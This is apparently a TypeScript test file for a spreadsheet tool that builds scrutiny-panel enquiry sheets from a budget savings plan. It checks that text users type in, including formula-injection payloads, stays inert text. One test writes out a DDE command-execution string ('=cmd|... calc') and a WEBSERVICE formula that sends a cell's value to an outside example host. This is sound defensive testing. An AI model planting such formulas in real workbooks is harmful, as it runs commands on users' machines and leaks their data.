import type { Host } from "../../src/host/host";
import { ensureCell } from "../../src/host/model/cells";
import type { HostSheet } from "../../src/host/model/types";
import { FORMER_HEADS, QUESTION_HEADS } from "../../src/sheet/enquiries/headings";
import { expectCleanObjects, expectOnlyOurFormulas, missingFrom, openHostile, paperOf, summarised } from "./hostile";
import { PAYLOADS } from "./payloads";
import { formulasIn } from "./strange-formulas";

const YEARS = ["2017/18", "2018/19", "2019/20"];
const LINES = [
  ["A1", "Day services", -120, -130, -140],
  ["A2", "Transport", 55, -60, -65],
  ["A3", "Care for older people", -10, -900, -950],
  ["A4", "Up to £2m of invest to save on agency staff", -100, -200, -300],
  ["A5", "Libraries", 40, -20, -20],
  ["A6", "Parks, as last year", -10, -10, -10],
];
const PLAN = [["Savings £000"], ["Code", "Description", ...YEARS], ...LINES];

const ENQUIRIES = "Lines of enquiry";

/** Where the table of a sheet has its heading row: the first row that holds all of some headings. */
function headingRow(host: Host, heads: readonly string[]): number {
  const rows = paperOf(host).find(({ name }) => name === ENQUIRIES)?.rows;
  for (const [row, cells] of rows ?? []) {
    const words = new Set([...cells.values()].map(({ value }) => value));
    if (heads.every((head) => words.has(head))) return row;
  }
  throw new Error(`${heads.join()} head no table`);
}

/** Puts a text into a cell as a text, as somebody does who formats the cell as text first. */
function putText(host: Host, row: number, column: number, text: string, sheet = ENQUIRIES): void {
  const found = host.workbook.sheets.find(({ name }) => name === sheet);
  if (!found) throw new Error(`no sheet ${sheet}`);
  const cell = ensureCell(found, row, column);
  delete cell.formula;
  cell.value = text;
  cell.style = { ...cell.style, numberFormat: "@" };
}

/** Makes all lines alike, so that little is asked about them. */
function flatten(plan: HostSheet): void {
  for (const row of LINES.keys()) for (const column of [2, 3, 4]) ensureCell(plan, 2 + row, column).value = -100 - row;
}

async function withPaper(): Promise<Host> {
  const host = await openHostile({ Plan: PLAN });
  await summarised();
  return host;
}

/** As many texts at once as there are questions. */
function inGroups(host: Host): string[][] {
  const sheet = paperOf(host).find(({ name }) => name === ENQUIRIES);
  const start = headingRow(host, Object.values(QUESTION_HEADS));
  let size = 0;
  while (typeof sheet?.rows.get(start + 1 + size)?.get(0)?.value === "number") size += 1;
  return Array.from({ length: Math.ceil(PAYLOADS.length / size) }, (_, at) =>
    PAYLOADS.slice(at * size, (at + 1) * size),
  );
}

test("whatever a panel writes beside a question, in columns of its own and above them, is kept as text", async () => {
  const host = await withPaper();
  const heads = Object.values(QUESTION_HEADS);
  const start = headingRow(host, heads);
  const columns = [QUESTION_HEADS.question, QUESTION_HEADS.answer, QUESTION_HEADS.comment, QUESTION_HEADS.equality];
  for (const texts of inGroups(host)) {
    texts.forEach((text, index) => {
      for (const head of columns) putText(host, start + 1 + index, heads.indexOf(head), text);
      putText(host, start + 1 + index, heads.length, text);
    });
    putText(host, start, heads.length, texts[0] ?? "Own");
    await summarised();
    expectOnlyOurFormulas(host);
    expect(missingFrom(paperOf(host), texts)).toEqual([]);
  }
  expectCleanObjects();
});

test("what a panel wrote is kept as text when its question goes, and comes back as text with it", async () => {
  const host = await withPaper();
  const heads = Object.values(QUESTION_HEADS);
  const start = headingRow(host, heads);
  const texts = PAYLOADS.slice(0, 3);
  texts.forEach((text, index) => {
    for (const column of [5, 6, 7, 8, heads.length]) putText(host, start + 1 + index, column, text);
  });
  putText(host, start, heads.length, "Own");
  const plan = host.workbook.sheets[0]!;
  const kept = structuredClone(plan.rows);
  flatten(plan);
  await summarised();
  expectOnlyOurFormulas(host);
  headingRow(host, Object.values(FORMER_HEADS));
  plan.rows = kept;
  await summarised();
  expectOnlyOurFormulas(host);
  expect(missingFrom(paperOf(host), texts)).toEqual([]);
});

test("a formula that somebody wrote as text among former words comes back as text", async () => {
  const host = await withPaper();
  const heads = Object.values(QUESTION_HEADS);
  const start = headingRow(host, heads);
  for (const index of [0, 1, 2]) putText(host, start + 1 + index, heads.indexOf(QUESTION_HEADS.comment), "Ask in May");
  const plan = host.workbook.sheets[0]!;
  const kept = structuredClone(plan.rows);
  flatten(plan);
  await summarised();
  const former = Object.values(FORMER_HEADS);
  const formerStart = headingRow(host, former);
  const texts = ["=cmd|' /C calc'!A0", '=WEBSERVICE("https://elsewhere.example/"&A1)'];
  const joined = texts.map((text, index) => `Own ${index}: ${text}`).join("\n");
  putText(host, formerStart + 1, former.indexOf(FORMER_HEADS.others), joined);
  plan.rows = kept;
  await summarised();
  expectOnlyOurFormulas(host);
  expect(missingFrom(paperOf(host), texts)).toEqual([]);
});

test("what is filled in on About heads the summary as text", async () => {
  const host = await withPaper();
  for (const text of PAYLOADS) {
    for (const row of [3, 4, 5]) putText(host, row, 1, text, "About");
  }
  await summarised();
  expectOnlyOurFormulas(host);
  expect(formulasIn(paperOf(host)).length).toBeGreaterThan(20);
});
